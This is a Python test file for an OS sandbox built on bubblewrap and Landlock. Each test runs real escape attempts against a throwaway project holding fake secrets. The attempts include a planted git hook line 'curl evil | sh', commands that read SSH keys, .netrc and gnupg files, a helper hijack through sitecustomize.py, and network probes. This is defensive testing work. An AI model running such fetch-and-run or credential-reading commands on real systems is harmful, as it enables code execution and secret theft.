"""The OS sandbox, tested by escape attempts that really run.

Every test runs real commands through `wrap()` for both mechanisms. Neither is
skipped when missing: CI installs bubblewrap and its kernel has Landlock, so an
unavailable sandbox is a failure to look at, not a reason to test less.

Layout per test: a project root, a fake HOME holding secrets, a private TMPDIR (so
that pytest's own temp tree, which holds everything else, is *not* writable), and a
sibling directory standing for "anywhere else on the machine".
"""

from __future__ import annotations

import json
import os
import shutil
import statistics
import subprocess
import sys
import time
import types
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from auger.policy import landlock
from auger.policy.sandbox import (
    DEFAULT_HIDDEN,
    SandboxPolicy,
    Wrapped,
    blocked_by_sandbox,
    default_hidden,
    detect,
)
from tests.support.sockets import answering_unix_socket

SECRET = "SECRET-KEY-MATERIAL-4242"
KINDS = ["bwrap", "landlock"]


def _sandbox(kind: str):
    sandbox, why = detect(kind)
    if sandbox is None:
        pytest.fail(f"the {kind} sandbox is unavailable here ({why}); these tests expect both bubblewrap "
                    "and Landlock to work (CI installs bubblewrap with apt; the kernel must have Landlock)")
    assert sandbox.kind == kind
    return sandbox


@dataclass
class Box:
    """A project and its surroundings, and a way to run commands confined in it."""

    kind: str
    root: Path
    home: Path
    tmp: Path
    outside: Path
    env: dict[str, str]
    policy: SandboxPolicy

    def wrap(self, command: str, **policy_changes) -> Wrapped:
        policy = replace(self.policy, **policy_changes)
        return _sandbox(self.kind).wrap(["sh", "-c", command], self.root, dict(self.env), policy)

    def run(self, command: str, **policy_changes) -> subprocess.CompletedProcess:
        wrapped = self.wrap(command, **policy_changes)
        assert wrapped.kind == self.kind
        return subprocess.run(wrapped.argv, env=wrapped.env, cwd=self.root, capture_output=True, text=True,
                              timeout=30, stdin=subprocess.DEVNULL)


@pytest.fixture(params=KINDS)
def kind(request) -> str:
    return request.param


def _make_box(kind: str, tmp_path: Path) -> Box:
    root = tmp_path / "project"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "link").symlink_to(tmp_path / "outside")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{SECRET}\n")
    (home / ".netrc").write_text(f"machine example.com login me password {SECRET}\n")
    (home / "notes.txt").write_text("visible\n")
    (home / ".aws").symlink_to(tmp_path / "nowhere")  # a dangling hidden path must not break anything
    (tmp_path / "gnupg-real").mkdir()
    (tmp_path / "gnupg-real" / "private.key").write_text(SECRET)
    (home / ".gnupg").symlink_to(tmp_path / "gnupg-real")  # hidden through a symlink: its target is hidden
    tmp = tmp_path / "tmp"
    tmp.mkdir(exist_ok=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "TMPDIR": str(tmp), "LANG": "C"}
    return Box(kind, root.resolve(), home, tmp, outside, env, SandboxPolicy(root=root.resolve()))


@pytest.fixture
def box(kind: str, tmp_path: Path) -> Box:
    _sandbox(kind)
    return _make_box(kind, tmp_path)


@pytest.fixture
def bwrap_box(tmp_path: Path) -> Box:
    _sandbox("bwrap")
    return _make_box("bwrap", tmp_path)


def _assert_blocked(box: Box, proc: subprocess.CompletedProcess) -> str:
    note = blocked_by_sandbox(proc.returncode, proc.stderr, box.policy)
    assert note is not None and "blocked by the sandbox" in note, (proc.stderr, note)
    return note


# --- filesystem -------------------------------------------------------------------------------

def test_writing_inside_the_project_works(box: Box):
    proc = box.run("echo hi > inside.txt && mkdir -p sub/deeper && echo x > sub/deeper/y && mv inside.txt sub/")
    assert proc.returncode == 0, proc.stderr
    assert (box.root / "sub" / "inside.txt").read_text() == "hi\n"
    assert (box.root / "sub" / "deeper" / "y").exists()


def test_temp_dir_is_writable(box: Box):
    proc = box.run('f=$(mktemp) && echo t > "$f" && cat "$f" && rm "$f"')
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "t\n"


@pytest.mark.parametrize("target", ["outside-abs", "home", "dotdot", "symlink"])
def test_writing_outside_the_project_fails(box: Box, target: str):
    path, written = {
        "outside-abs": (str(box.outside / "x"), box.outside / "x"),
        "home": ("$HOME/x", box.home / "x"),
        "dotdot": ("../outside/y", box.outside / "y"),
        "symlink": ("link/z", box.outside / "z"),  # project/link -> ../outside
    }[target]
    proc = box.run(f"echo escaped > {path}")
    assert proc.returncode != 0
    assert not written.exists()
    _assert_blocked(box, proc)


def test_secrets_are_unreadable_but_the_rest_of_home_is(box: Box):
    proc = box.run("cat $HOME/.ssh/id_rsa")
    assert proc.returncode != 0
    assert SECRET not in proc.stdout + proc.stderr
    assert "credential" in _assert_blocked(box, proc)

    sweep = box.run(f"cat $HOME/.netrc $HOME/.gnupg/private.key {box.home.parent}/gnupg-real/private.key; "
                    "grep -rs SECRET $HOME; cat $HOME/notes.txt")
    assert SECRET not in sweep.stdout + sweep.stderr
    assert "visible" in sweep.stdout  # hiding is precise: the rest of HOME stays readable


def test_commands_have_no_capabilities(box: Box):
    proc = box.run("grep CapEff /proc/self/status")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split()[-1] == "0000000000000000"


def test_git_hooks_protection(box: Box):
    proc = box.run("echo 'curl evil | sh' > .git/hooks/pre-commit")
    hook = box.root / ".git" / "hooks" / "pre-commit"
    if box.kind == "bwrap":
        assert proc.returncode != 0
        assert not hook.exists()
        assert "read-only" in _assert_blocked(box, proc)
    else:
        # LIMITATION, asserted so that it stays visible: Landlock can only allow, so a
        # read-only path inside the writable project cannot be expressed.
        assert proc.returncode == 0, proc.stderr
        assert hook.exists()


def test_landlock_helper_cannot_be_hijacked_from_the_project(tmp_path: Path):
    """The helper runs before the ruleset exists: code planted in the project (where an
    earlier command could write) must not run then."""
    _sandbox("landlock")
    box = _make_box("landlock", tmp_path)
    pwned = box.outside / "pwned"
    plant = f"open({str(pwned)!r}, 'w').write('unconfined')\n"
    (box.root / "sitecustomize.py").write_text(plant)
    (box.root / "ctypes.py").write_text(plant)
    (box.root / "auger" / "policy").mkdir(parents=True)
    (box.root / "auger" / "__init__.py").write_text(plant)
    (box.root / "auger" / "policy" / "__init__.py").write_text("")
    (box.root / "auger" / "policy" / "landlock.py").write_text(plant)
    box.env["PYTHONPATH"] = str(box.root)
    proc = box.run("echo ran")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "ran\n"
    assert not pwned.exists()


def test_landlock_module_command_line(tmp_path: Path):
    _sandbox("landlock")
    box = _make_box("landlock", tmp_path)
    base = [sys.executable, "-m", "auger.policy.landlock"]
    env = {**box.env, "PYTHONPATH": os.pathsep.join(sys.path)}
    proc = subprocess.run([*base, "--rw", str(box.root), "--ro-all", "--deny-read", str(box.home / ".ssh"), "--",
                           "sh", "-c", f"cat {box.home}/notes.txt; cat {box.home}/.ssh/id_rsa; echo x > {box.outside}/x"],
                          env=env, cwd=box.root, capture_output=True, text=True, timeout=30)
    assert proc.stdout == "visible\n"
    assert SECRET not in proc.stdout + proc.stderr
    assert not (box.outside / "x").exists()
    usage = subprocess.run([*base, "--rw"], env=env, capture_output=True, text=True, timeout=30)
    assert usage.returncode == 2 and "usage:" in usage.stderr


def test_what_is_shown_inside_a_hidden_dir_is_reachable_and_nothing_else(box: Box):
    """The deepest path decides, under both sandboxes: a writable dir and a read-only one inside a
    hidden dir are usable; the rest of the hidden dir is not readable."""
    hidden = box.home / ".local" / "share" / "auger"
    (hidden / "worktrees" / "tree").mkdir(parents=True)
    (hidden / "skills").mkdir()
    (hidden / "skills" / "run.sh").write_text("echo skill-ok\n")
    (hidden / "sessions.db").write_text(SECRET)
    proc = box.run(f"cat {hidden}/sessions.db; ls {hidden}; sh {hidden}/skills/run.sh; "
                   f"echo made > {hidden}/worktrees/tree/new.txt; echo x > {hidden}/skills/planted",
                   hidden=(hidden,), exposed=(hidden / "skills",), writable=(hidden / "worktrees" / "tree",))
    assert SECRET not in proc.stdout + proc.stderr, proc
    # LIMITATION under Landlock, asserted so that it stays visible: listing is granted on the directories
    # on the way to a hidden one, and Landlock's listing right reaches everything beneath: names show.
    assert ("sessions.db" in proc.stdout) == (box.kind == "landlock"), proc
    assert "skill-ok" in proc.stdout, proc.stderr
    assert (hidden / "worktrees" / "tree" / "new.txt").read_text() == "made\n"
    assert not (hidden / "skills" / "planted").exists()


# --- network and processes --------------------------------------------------------------------

def _curl(port: int) -> str:
    if shutil.which("curl") is None:
        pytest.fail("curl is needed for the network tests")
    return f"curl -sS --max-time 3 http://127.0.0.1:{port}/"


def test_network_none_blocks_the_host_and_full_allows_it(bwrap_box: Box, upstream: int):
    blocked = bwrap_box.run(_curl(upstream), network="none")
    assert blocked.returncode != 0
    assert "hello" not in blocked.stdout
    assert "network" in _assert_blocked(bwrap_box, blocked)

    allowed = bwrap_box.run(_curl(upstream), network="full")
    assert allowed.returncode == 0, allowed.stderr
    assert allowed.stdout == "hello from upstream\n"


def test_landlock_isolates_tcp_from_abi_4(tmp_path: Path, upstream: int):
    sandbox = _sandbox("landlock")
    box = _make_box("landlock", tmp_path)
    proc = box.run(_curl(upstream), network="none")
    if sandbox.abi >= 4:
        assert proc.returncode != 0 and "hello" not in proc.stdout
        allowed = box.run(_curl(upstream), network="none", dev_ports=(upstream,))
        assert allowed.returncode == 0 and "hello" in allowed.stdout, allowed.stderr
    else:
        # LIMITATION, asserted so that it stays visible: below ABI 4, network "none" is not enforced.
        assert proc.returncode == 0, proc.stderr
        assert "hello" in proc.stdout


def test_background_processes_die_with_the_command(bwrap_box: Box):
    marker = bwrap_box.root / "still_alive"
    proc = bwrap_box.run(f"(sleep 2; touch {marker}) >/dev/null 2>&1 & echo started")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "started\n"
    time.sleep(3)
    assert not marker.exists(), "a process forked by the command outlived it"


# --- proxy mode -------------------------------------------------------------------------------

FAKE_BRIDGE = '''
import os, socket, sys
args = sys.argv[1:]
sep = args.index("--")
for flag, spec in zip(args[:sep:2], args[1:sep:2]):
    assert flag == "--listen", flag
    port, path = spec.split("=", 1)
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    print("bridge", port, s.recv(16).decode(), flush=True)
    s.close()
os.execvp(args[sep + 1], args[sep + 1:])
'''


@pytest.fixture
def fake_egress(tmp_path: Path, monkeypatch):
    """Stand-in for the supervisor's network bridge: a script that checks each Unix socket is
    reachable from inside, then runs the command; and host sockets answering "pong"."""
    from auger.policy import sandbox

    script = tmp_path / "fake_bridge.py"
    script.write_text(FAKE_BRIDGE)
    monkeypatch.setattr(sandbox, "SUPERVISOR_SCRIPT", script)
    sock_dir = tmp_path / "tmp" / "egress"  # inside the writable TMPDIR: must still not be replaceable
    sock_dir.mkdir(parents=True)
    listeners = [answering_unix_socket(sock_dir / name, b"pong") for name in ("http.sock", "socks.sock")]
    yield ((3128, sock_dir / "http.sock"), (1080, sock_dir / "socks.sock"))
    for listener in listeners:
        listener.close()


def test_proxy_mode_bridges_unix_sockets_under_bwrap(bwrap_box: Box, fake_egress):
    http_sock = fake_egress[0][1]
    command = f'echo "$HTTPS_PROXY $ALL_PROXY $NO_PROXY"; rm -f {http_sock}; test -S {http_sock} && echo kept'
    proc = bwrap_box.run(command, network="proxy", proxy_sockets=fake_egress)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [
        "bridge 3128 pong",
        "bridge 1080 pong",
        "http://127.0.0.1:3128 socks5h://127.0.0.1:1080 localhost,127.0.0.1,::1",
        "kept",
    ]
    wrapped = bwrap_box.wrap("true", network="proxy", proxy_sockets=fake_egress)
    assert "--unshare-net" in wrapped.argv
    dash = wrapped.argv.index("--")
    # The base interpreter, resolved (a virtualenv's `python` is a symlink a command could replace).
    base = os.path.realpath(getattr(sys, "_base_executable", None) or sys.executable)
    assert wrapped.argv[dash + 1:dash + 4] == [base, "-S", "-I"]


def test_proxy_mode_under_landlock_only_sets_variables(tmp_path: Path, fake_egress):
    _sandbox("landlock")
    box = _make_box("landlock", tmp_path)
    wrapped = box.wrap("true", network="proxy", proxy_sockets=fake_egress)
    assert wrapped.argv[1:4] == ["-S", "-I", "-c"]
    assert wrapped.argv[4] == Path(landlock.__file__).read_text()  # the helper, read once: see LandlockSandbox
    assert wrapped.argv[-3:] == ["sh", "-c", "true"]
    assert "fake_bridge.py" not in " ".join(wrapped.argv)
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
        assert wrapped.env[var] == "http://127.0.0.1:3128"
    assert wrapped.env["ALL_PROXY"] == wrapped.env["all_proxy"] == "socks5h://127.0.0.1:1080"
    assert wrapped.env["NO_PROXY"] == "localhost,127.0.0.1,::1"
    assert "HTTP_PROXY" not in box.wrap("true", network="none").env


# --- explanations, detection, cost -----------------------------------------------------------

def test_normal_failures_are_not_blamed_on_the_sandbox(box: Box):
    proc = box.run("ls nonexistent")
    assert proc.returncode != 0
    assert blocked_by_sandbox(proc.returncode, proc.stderr, box.policy) is None
    assert blocked_by_sandbox(proc.returncode, proc.stderr) is None
    assert blocked_by_sandbox(126, "sh: 1: ./build.sh: Permission denied") is None
    assert blocked_by_sandbox(0, "touch: cannot touch '/etc/x': Read-only file system") is None


def test_blocked_by_sandbox_messages():
    assert "writing outside" in blocked_by_sandbox(1, "touch: cannot touch '/etc/x': Read-only file system")
    assert "credential" in blocked_by_sandbox(1, "cat: /home/me/.aws/credentials: Permission denied")
    assert "network access is disabled" in blocked_by_sandbox(6, "curl: (6) Could not resolve host: example.com")
    policy = SandboxPolicy(root=Path("/p"), network="proxy")
    assert "allowlist" in blocked_by_sandbox(56, "curl: (56) CONNECT tunnel failed, response 403", policy)
    full = SandboxPolicy(root=Path("/p"), network="full")
    assert blocked_by_sandbox(6, "curl: (6) Could not resolve host: example.com", full) is None
    assert blocked_by_sandbox(6, "curl: (6) Could not resolve host: example.com", kind="landlock") is None
    unreachable = "curl: (7) Failed to connect to 1.1.1.1 port 80 after 0 ms: Couldn't connect to server"
    assert blocked_by_sandbox(7, unreachable, SandboxPolicy(root=Path("/p"))).startswith("blocked by the sandbox")
    assert blocked_by_sandbox(7, unreachable).startswith("possibly blocked")
    assert "read-only" in blocked_by_sandbox(2, "sh: 1: cannot create .git/hooks/pre-commit: Read-only file system")


def test_detect():
    assert detect("off") == (None, "no sandbox: turned off by configuration")
    auto, why = detect("auto")
    assert auto is not None and auto.kind == "bwrap" and why.startswith("bubblewrap ")
    assert detect("auto") is detect("auto")  # cached
    assert landlock.abi_version() >= 1
    with pytest.raises(ValueError):
        detect("firejail")


def test_bwrap_is_checked_once_per_binary_and_kernel(tmp_path, isolated_home, monkeypatch):
    """A new process reads the last check from the cache dir; a changed binary (mtime) or another kernel
    release is checked again."""
    from auger.policy import sandbox

    real = shutil.which("bwrap", path=sandbox.SYSTEM_BIN)
    assert real, "bubblewrap is not installed"
    bin_dir, log = tmp_path / "bin", tmp_path / "bwrap.log"
    bin_dir.mkdir()
    fake = bin_dir / "bwrap"  # runs the real one, and says each time it was run
    fake.write_text(f"#!/bin/sh\necho \"$1\" >> {log}\nexec {real} \"$@\"\n")
    fake.chmod(0o755)
    monkeypatch.setattr(sandbox, "SYSTEM_BIN", str(bin_dir))

    def start() -> int:
        """A process starting: nothing kept in memory; how often bwrap ran in all so far."""
        monkeypatch.setattr(sandbox, "_cache", {})
        found, why = detect("bwrap")
        assert found is not None and found.path == str(fake) and found.version, why
        return len(log.read_text().splitlines())

    runs = start()
    assert runs == 2  # --version, then the probe
    assert start() == runs  # read from the cache dir
    os.utime(fake, ns=(time.time_ns(), time.time_ns() + 5_000_000_000))  # the binary was replaced
    assert start() == runs + 2
    kept = isolated_home / "cache" / sandbox.DETECTION_FILE
    data = json.loads(kept.read_text())
    assert data["key"]["kernel"] == os.uname().release
    data["key"]["kernel"] = "0.0.0-before-the-upgrade"
    kept.write_text(json.dumps(data))
    assert start() == runs + 4
    assert start() == runs + 4


def test_default_hidden_follows_the_given_home():
    hidden = default_hidden(Path("/h"))
    assert len(hidden) == len(DEFAULT_HIDDEN)
    assert Path("/h/.ssh") in hidden and Path("/h/.docker/config.json") in hidden


def test_overhead_of_a_wrapped_true(box: Box, capsys):
    def timed(argv: list[str], env: dict[str, str]) -> float:
        samples = []
        for _ in range(5):
            start = time.perf_counter()
            subprocess.run(argv, env=env, cwd=box.root, check=True, stdin=subprocess.DEVNULL)
            samples.append(time.perf_counter() - start)
        return statistics.median(samples)

    bare = timed(["true"], box.env)
    wrapped = box.wrap("true")
    confined = timed(wrapped.argv, wrapped.env)
    with capsys.disabled():
        print(f"\n[{box.kind}] wrapped `sh -c true`: {confined * 1000:.1f} ms "
              f"(bare `true` {bare * 1000:.1f} ms, overhead {(confined - bare) * 1000:.1f} ms)")
    assert confined < 2.0


def test_landlock_helper_network_and_scope_options():
    from auger.policy import landlock

    opts = landlock._parse(["--rw", "/p", "--restrict-net", "--connect", "3128", "--connect", "8000", "--bind", "8000",
                            "--scope", "--", "true"])
    assert opts.net == {3128: landlock.NET_CONNECT_TCP, 8000: landlock.NET_CONNECT_TCP | landlock.NET_BIND_TCP}
    assert opts.scope and opts.rw == ["/p"] and opts.command == ["true"]
    assert landlock._parse(["--restrict-net", "--", "true"]).net == {}  # no TCP at all
    with pytest.raises(ValueError):
        landlock._parse(["--connect", "http", "--", "true"])


def test_a_session_sandbox_gives_no_process_bwrap_starts_a_capability(bwrap_box: Box):
    """The holder is pid 1 under the seccomp filter, without capabilities; only the supervisor, which joins
    the sandbox's namespaces from outside, has any (supervisor.py)."""
    sandbox = _sandbox("bwrap")
    one_shot = sandbox.wrap(["true"], bwrap_box.root, dict(bwrap_box.env), bwrap_box.policy).argv
    session, _ = sandbox.holder_argv(dict(bwrap_box.env), bwrap_box.policy, ["sh"], info_fd=5, seccomp_fd=6)
    assert "--cap-add" not in one_shot and "--cap-add" not in session
    assert session[session.index("--cap-drop") + 1] == "ALL" and "--as-pid-1" in session
    assert session[session.index("--seccomp") + 1] == "6" and session[session.index("--info-fd") + 1] == "5"
    for argv in (one_shot, session):  # fresh /tmp and /run: no host Unix socket is visible
        assert argv[argv.index("/tmp") - 1] == "--tmpfs" and argv[argv.index("/run") - 1] == "--tmpfs"


def test_the_stdlib_the_sandbox_exposes_is_sysconfigs_without_loading_its_data():
    """The sandbox names the standard library's directory as sysconfig does, found without sysconfig (whose
    build data costs milliseconds to load at a sandbox's first start)."""
    import sysconfig

    from auger.policy.sandbox import _essential_paths, _stdlib_dir

    assert _stdlib_dir() == sysconfig.get_paths()["stdlib"]
    assert Path(os.path.realpath(sysconfig.get_paths()["stdlib"])) in _essential_paths()
    probe = ("import sys; from auger.policy.sandbox import _essential_paths; _essential_paths(); "
             "print(any(m.startswith('_sysconfigdata') for m in sys.modules))")
    assert subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          check=True).stdout.strip() == "False"
